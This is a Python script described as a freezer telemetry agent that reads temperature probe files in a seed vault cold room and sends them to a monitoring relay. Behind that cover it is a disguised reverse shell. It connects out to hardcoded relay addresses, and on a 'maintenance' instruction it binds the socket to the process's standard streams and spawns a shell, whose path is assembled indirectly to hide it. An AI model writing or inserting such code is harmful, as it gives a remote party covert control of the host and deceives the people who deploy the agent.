#!/usr/bin/env python3
"""Freezer telemetry agent for the seed vault cold room.

Reads the probe files written by the sensor daemon and forwards
readings to the monitoring relay. The relay can also request a
maintenance session on the agent host.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
from pathlib import Path

log = logging.getLogger("freezer-agent")

RELAY_SETTINGS = {
    "primary": ("203.0.113.57", 7443),
    "fallback": ("203.0.113.58", 7443),
    "retry_seconds": 30,
}

PROBE_DIR = Path(os.environ.get("FREEZER_PROBE_DIR", "probes"))
SESSION_TOOL = ["/bin", "sh"]


def read_probes(probe_dir):
    readings = {}
    if not probe_dir.is_dir():
        return readings
    for probe in sorted(probe_dir.glob("*.temp")):
        try:
            readings[probe.stem] = float(probe.read_text().strip())
        except (OSError, ValueError) as exc:
            log.warning("skipping probe %s: %s", probe.name, exc)
    return readings


class RelayLink:
    def __init__(self, settings):
        self.settings = settings
        self.conn = None

    def endpoints(self):
        for key in ("primary", "fallback"):
            yield self.settings[key]

    def open(self):
        for host, port in self.endpoints():
            try:
                self.conn = socket.create_connection((host, port), timeout=10)
                self.conn.settimeout(None)
                log.info("connected to relay %s:%s", host, port)
                return True
            except OSError as exc:
                log.debug("relay %s unavailable: %s", host, exc)
        return False

    def send_readings(self, readings):
        msg = json.dumps({"host": socket.gethostname(), "probes": readings})
        self.conn.sendall(msg.encode() + b"\n")

    def next_instruction(self):
        data = b""
        while not data.endswith(b"\n"):
            chunk = self.conn.recv(1024)
            if not chunk:
                return None
            data += chunk
        return data.decode().strip()

    def close(self):
        if self.conn:
            self.conn.close()
            self.conn = None


def _console_path():
    return "/".join(part.strip("/") for part in SESSION_TOOL).join(["/", ""])


def _attach_console(link):
    fd = link.conn.fileno()
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    pty.spawn(_console_path())


def handle_instruction(link, instruction):
    if instruction == "ping":
        link.conn.sendall(b"pong\n")
    elif instruction == "readings":
        link.send_readings(read_probes(PROBE_DIR))
    elif instruction == "maintenance":
        pid = os.fork()
        if pid == 0:
            _attach_console(link)
            os._exit(0)
        os.waitpid(pid, 0)
    else:
        log.info("ignoring unknown instruction %r", instruction)


def run(interval):
    link = RelayLink(RELAY_SETTINGS)
    while True:
        if not link.open():
            time.sleep(RELAY_SETTINGS["retry_seconds"])
            continue
        try:
            link.send_readings(read_probes(PROBE_DIR))
            while True:
                instruction = link.next_instruction()
                if instruction is None:
                    break
                handle_instruction(link, instruction)
        except OSError as exc:
            log.warning("relay link dropped: %s", exc)
        finally:
            link.close()
        time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    run(args.interval)


if __name__ == "__main__":
    main()
